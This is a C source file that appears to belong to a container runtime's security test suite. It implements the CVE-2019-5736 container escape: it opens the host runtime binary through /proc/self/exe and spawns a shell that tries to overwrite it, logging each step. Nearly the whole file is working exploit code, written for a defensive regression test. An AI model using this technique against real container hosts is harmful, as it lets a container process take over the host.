/* The CVE-2019-5736 attack, for Tests/HullIntegrationTests/Security/EscapeTests.swift.
 *
 * The test installs this program as the rootfs's ELF interpreter (/lib64/ld-linux-x86-64.so.2,
 * /lib/ld-linux-aarch64.so.1) and /bin/evil as a script whose "#!" line is /proc/self/exe. When
 * a process of hull's binary (the init or an exec'd process, before its execve) executes
 * /bin/evil, the kernel runs hull's binary again with this program as its interpreter: it runs
 * as a container process whose /proc/self/exe is the runtime's binary. It opens that (fd 3),
 * and leaves a shell that tries, for a while, to overwrite it through /proc/self/fd/3 once no
 * process runs it any more. Everything it learns goes to /out/log.
 *
 * Freestanding (no libc): the interpreter is entered with the auxiliary vector of hull, which a
 * libc's start-up code would misread. */
typedef long L;

#if defined(__x86_64__)
enum { NR_write = 1, NR_openat = 257, NR_close = 3, NR_fork = 57, NR_execve = 59, NR_exit = 60, NR_setsid = 112, NR_dup2 = 33 };
static L sc(L n, L a, L b, L c, L d)
{
    L r;
    register L r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return r;
}
static L do_fork(void) { return sc(NR_fork, 0, 0, 0, 0); }
static L do_dup2(L a, L b) { return sc(NR_dup2, a, b, 0, 0); }
#elif defined(__aarch64__)
enum { NR_write = 64, NR_openat = 56, NR_close = 57, NR_clone = 220, NR_execve = 221, NR_exit = 93, NR_setsid = 157, NR_dup3 = 24 };
static L sc(L n, L a, L b, L c, L d)
{
    register L x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c, x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
}
static L do_fork(void) { return sc(NR_clone, 17 /* SIGCHLD */, 0, 0, 0); }
static L do_dup2(L a, L b) { return sc(NR_dup3, a, b, 0, 0); }
#else
#error "exe_overwrite.c: unsupported architecture"
#endif

#define AT_FDCWD (-100)

/* The address of a string as computed at run time: nothing here is relocated, so an array of
 * pointers must not be a constant the compiler lays out in the binary. */
static const char *at(const char *p)
{
    __asm__ volatile("" : "+r"(p));
    return p;
}

static void say(L fd, const char *s)
{
    L n = 0;
    while (s[n])
        n++;
    sc(NR_write, fd, (L)s, n, 0);
}

__attribute__((force_align_arg_pointer)) void _start(void)
{
    L log = sc(NR_openat, AT_FDCWD, (L)"/out/log", 01 | 0100 | 02000 /* O_WRONLY|O_CREAT|O_APPEND */, 0644);
    L exe = sc(NR_openat, AT_FDCWD, (L)"/proc/self/exe", 0 /* O_RDONLY */, 0);
    if (exe < 0) {
        say(log, "open-exe-failed\n");
        sc(NR_exit, 1, 0, 0, 0);
    }
    say(log, "opened-exe\n");
    if (exe != 3) {
        do_dup2(exe, 3);
        sc(NR_close, exe, 0, 0, 0);
    }
    if (do_fork() == 0) {
        sc(NR_setsid, 0, 0, 0, 0);
        /* A shell, so that no process of the attacker runs hull's binary (which would keep it
         * busy: ETXTBSY). The last error the shell printed ends up in the log. */
        static const char script[] =
            "for i in $(seq 60); do "
            "if (printf '#!/bin/sh\\necho overwritten\\n' >/proc/self/fd/3) 2>/out/error; then echo overwrote >>/out/log; exit; fi; "
            "sleep 0.05; done; echo gave-up >>/out/log";
        const char *argv[4], *envp[2];
        argv[0] = at("/bin/sh");
        argv[1] = at("-c");
        argv[2] = at(script);
        argv[3] = 0;
        envp[0] = at("PATH=/bin");
        envp[1] = 0;
        sc(NR_execve, (L)"/bin/sh", (L)argv, (L)envp, 0);
        say(log, "execve-failed\n");
    }
    sc(NR_exit, 0, 0, 0, 0);
}
